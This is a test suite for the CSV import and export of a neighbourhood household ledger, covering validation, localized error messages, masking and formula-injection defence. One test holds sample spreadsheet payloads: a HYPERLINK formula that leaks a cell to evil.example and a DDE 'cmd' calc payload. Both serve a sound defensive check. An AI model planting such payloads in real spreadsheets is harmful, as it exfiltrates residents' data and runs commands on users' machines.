import { parse } from 'csv-parse/sync';
import { DEMO, startTestApp, type TestApp } from './support/test-app';

describe('the council imports and exports the household ledger (台账) as CSV', () => {
  let t: TestApp;
  let admin: string;
  beforeAll(async () => {
    t = await startTestApp();
    admin = await t.login(DEMO.admin);
  });
  afterAll(() => t.close());

  const csv = [
    '门牌,姓名,手机,角色,党员,志愿者,车牌,车牌颜色',
    '下岗胡同40号,钱大爷,13700000001,居民,是,否,京A·7k0O1,蓝',
    '下岗胡同40号,钱小妹,13700000002,resident,false,true,京AD55123,',
    '下岗胡同41号,孙阿姨,13700000003,,,,,',
    ',无门牌,13700000004,,,,,',
    '下岗胡同42号,错号码,12345,,,,,',
    '下岗胡同43号,周师傅,13700000005,,,,京Z1,',
    '下岗胡同44号,吴先生,13700000006,superuser,,,,',
    `下岗胡同45号,冒用车牌,13700000007,,,,京A12345,`,
  ].join('\n');

  it('dry run reports every row and changes nothing', async () => {
    const before = await t.sql(`SELECT count(*) FROM member`);
    const response = await t
      .http()
      .post('/api/households/import?dryRun=true')
      .set('Authorization', `Bearer ${admin}`)
      .set('Content-Type', 'text/csv')
      .send(csv);
    expect(response.status).toBe(200);
    expect(response.body).toMatchObject({ dryRun: true, rows: 8, accepted: 3 });
    expect(await t.sql(`SELECT count(*) FROM member`)).toEqual(before);
  });

  it('imports the good rows and explains each rejected one, in the language asked for', async () => {
    const response = await t
      .http()
      .post('/api/households/import')
      .set('Authorization', `Bearer ${admin}`)
      .set('Content-Type', 'text/csv')
      .set('accept-language', 'en')
      .send(csv);
    expect(response.status).toBe(200);
    expect(response.body).toMatchObject({
      rows: 8,
      accepted: 3,
      householdsCreated: 2,
      membersCreated: 3,
      vehiclesCreated: 2,
    });
    type Rejected = { row: number; reason: string; params?: object; message: string };
    const rejected = Object.fromEntries(
      (response.body.rejected as Rejected[]).map((r) => [r.row, r]),
    );
    expect(Object.keys(rejected).map(Number)).toEqual([5, 6, 7, 8, 9]);
    expect(rejected[5]).toMatchObject({ reason: 'ledger.address_missing' });
    expect(rejected[5]!.message).toContain('address');
    expect(rejected[6]).toMatchObject({ reason: 'ledger.phone_invalid' });
    expect(rejected[6]!.message).toContain('phone');
    expect(rejected[7]).toMatchObject({ reason: 'plate.invalid' });
    expect(rejected[7]!.message).toContain('plate');
    expect(rejected[8]).toMatchObject({
      reason: 'ledger.role_unknown',
      params: { value: 'superuser' },
    });
    expect(rejected[8]!.message).toContain('superuser');
    expect(rejected[9]).toMatchObject({ reason: 'ledger.plate_elsewhere' });
    expect(rejected[9]!.message).toContain('another household');
    // (A plate is written as painted, 京A12345, in either language.)

    const [vehicle] = await t.sql<{ plate: string; plate_color: string }>(
      `SELECT plate, plate_color FROM vehicle v JOIN member m ON m.id = v.owner_member_id WHERE m.phone = '13700000001'`,
    );
    expect(vehicle).toEqual({ plate: '京A7K001', plate_color: 'blue' });
    // Rejected rows left nothing behind.
    expect(
      await t.sql(
        `SELECT 1 FROM household WHERE address IN ('下岗胡同42号', '下岗胡同43号', '下岗胡同44号')`,
      ),
    ).toHaveLength(0);
  });

  it('exports a ledger that a spreadsheet opens, with the imported rows in it', async () => {
    const response = await t
      .http()
      .get('/api/households/export.csv')
      .set('Authorization', `Bearer ${admin}`);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.headers['content-disposition']).toContain('attachment');
    const text: string = response.text;
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text).toContain('门牌,姓名,手机,角色,党员,志愿者,车牌,车牌颜色');
    expect(text).toContain('下岗胡同40号,钱大爷,13700000001,居民,是,否,京A·7K001,蓝牌');
    expect(text).toContain('下岗胡同41号,孙阿姨,13700000003,居民');
  });

  it('writes the report in Chinese by default, one language per message', async () => {
    const response = await t
      .http()
      .post('/api/households/import?dryRun=true')
      .set('Authorization', `Bearer ${admin}`)
      .set('Content-Type', 'text/csv')
      .send(csv);
    const messages = (response.body.rejected as { row: number; message: string }[]).map(
      (r) => r.message,
    );
    expect(messages[0]).toBe('缺少门牌');
    expect(messages[2]).toContain('车牌格式不正确');
    for (const message of messages) expect(message).not.toMatch(/[A-Za-z]{4,} [a-z]+/);
  });

  it('exports formula-looking text as inert text, whoever typed it', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?leak="&C2,"点我领补贴")';
    const imported = await t
      .http()
      .post('/api/households/import')
      .set('Authorization', `Bearer ${admin}`)
      .set('Content-Type', 'text/csv')
      .send(
        [
          'address,name,phone',
          `"@SUM(1+1)号","${hostile.replaceAll('"', '""')}",13700000099`,
          `下岗胡同46号,+cmd|' /C calc'!A0,13700000098`,
        ].join('\n'),
      );
    expect(imported.body.rejected).toEqual([]);
    const exported = await t
      .http()
      .get('/api/households/export.csv')
      .set('Authorization', `Bearer ${admin}`);
    const cells: string[][] = parse(exported.text.replace(/^\uFEFF/, ''), {});
    const byPhone = new Map(cells.map((row) => [row[2], row]));
    const first = byPhone.get('13700000099')!;
    expect(first[0]).toBe("'@SUM(1+1)号");
    expect(first[1]).toBe(`'${hostile}`);
    expect(byPhone.get('13700000098')![1]).toBe("'+cmd|' /C calc'!A0");
    // Nothing a spreadsheet would run: no cell starts with = + - @.
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('re-importing the export changes nothing but counts members as updated', async () => {
    const exported = (
      await t.http().get('/api/households/export.csv').set('Authorization', `Bearer ${admin}`)
    ).text;
    const before = await t.sql(`SELECT count(*) FROM vehicle`);
    const response = await t
      .http()
      .post('/api/households/import')
      .set('Authorization', `Bearer ${admin}`)
      .set('Content-Type', 'text/csv')
      .send(exported);
    expect(response.body.rejected).toEqual([]);
    expect(response.body.membersCreated).toBe(0);
    expect(await t.sql(`SELECT count(*) FROM vehicle`)).toEqual(before);
  });

  it('a street-office viewer gets the ledger with phones and plates masked', async () => {
    const viewer = await t.login(DEMO.viewer);
    const response = await t
      .http()
      .get('/api/households/export.csv')
      .set('Authorization', `Bearer ${viewer}`);
    expect(response.status).toBe(200);
    expect(response.text).toContain('137****0001');
    expect(response.text).not.toContain('13700000001');
  });
});
